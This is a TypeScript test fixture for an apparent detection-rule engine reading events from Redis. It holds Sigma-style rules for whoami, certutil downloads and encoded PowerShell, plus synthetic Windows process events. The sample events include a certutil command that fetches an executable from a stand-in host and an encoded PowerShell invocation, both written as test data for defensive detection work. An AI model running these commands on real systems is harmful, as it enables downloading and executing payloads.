/** Rules, events and the alerts a single in-process scan expects, shared by the Redis consumer tests. */
import { Matcher, loadRulesFromText } from '../../src/index.js';
import { alertId, ruleKeys } from '../../src/sources/redis/alerts.js';
import { tempFiles } from '../support/cli.js';

export const RULE_TEXTS = {
  'whoami.yml': `title: Whoami Run
id: 5b0d8d5e-0c3c-4c55-9d65-7a3e1c1f0001
status: test
level: high
author: Test Author
tags:
  - attack.t1033
logsource:
  product: windows
detection:
  selection:
    Image|endswith: '\\whoami.exe'
  condition: selection
`,
  'certutil.yml': `title: Certutil Download
id: 5b0d8d5e-0c3c-4c55-9d65-7a3e1c1f0002
status: test
level: medium
author: Test Author
logsource:
  product: windows
detection:
  selection:
    CommandLine|contains: urlcache
  condition: selection
`,
  // No id: its alerts are keyed by its title.
  'noid.yml': `title: Encoded PowerShell
status: experimental
level: low
logsource:
  product: windows
detection:
  selection:
    CommandLine|contains: ' -enc '
  condition: selection
`,
};

/** A directory holding the rules (rules/) and whatever else the test adds. */
export function ruleDir(): string {
  return tempFiles(Object.fromEntries(Object.entries(RULE_TEXTS).map(([name, text]) => [`rules/${name}`, text])));
}

const IMAGES = ['C:\\Windows\\System32\\whoami.exe', 'C:\\Windows\\System32\\certutil.exe', 'C:\\Windows\\notepad.exe', 'C:\\Tools\\x.exe'];
const COMMANDS = ['certutil -urlcache -f http://example.test/a a.exe', 'powershell -enc SQBFAFgA', 'notepad.exe readme.txt', 'x.exe --help'];

/** Event i: about 40% of them hit one rule or two. */
export function makeEvent(i: number): Record<string, unknown> {
  return {
    EventID: 1,
    Image: IMAGES[i % IMAGES.length],
    CommandLine: COMMANDS[(i * 7) % COMMANDS.length],
    UtcTime: `2024-05-01 10:00:${String(i % 60).padStart(2, '0')}.000`,
    Seq: i,
  };
}

export function makeEvents(n: number): Record<string, unknown>[] {
  return Array.from({ length: n }, (_, i) => makeEvent(i));
}

/** The entries' field lists: the event as JSON in the "event" field. */
export function eventEntries(events: readonly object[]): string[][] {
  return events.map((e) => ['event', JSON.stringify(e)]);
}

/** The alert ids one in-process scan of the events gives (entry i has id ids[i]). */
export async function expectedAlertIds(stream: string, events: readonly object[], ids: readonly string[]): Promise<string[]> {
  const set = loadRulesFromText(Object.values(RULE_TEXTS));
  const matcher = await Matcher.create(set);
  const keys = ruleKeys(matcher.rules);
  const byId = new Map(matcher.rules.map((r, i) => [r, keys[i]]));
  const hits = matcher.match(events);
  return hits.map((h) => alertId(stream, ids[h.event], byId.get(matcher.rules[h.rule])!));
}

/** Count of each value. */
export function tally(values: readonly string[]): Map<string, number> {
  const m = new Map<string, number>();
  for (const v of values) m.set(v, (m.get(v) ?? 0) + 1);
  return m;
}
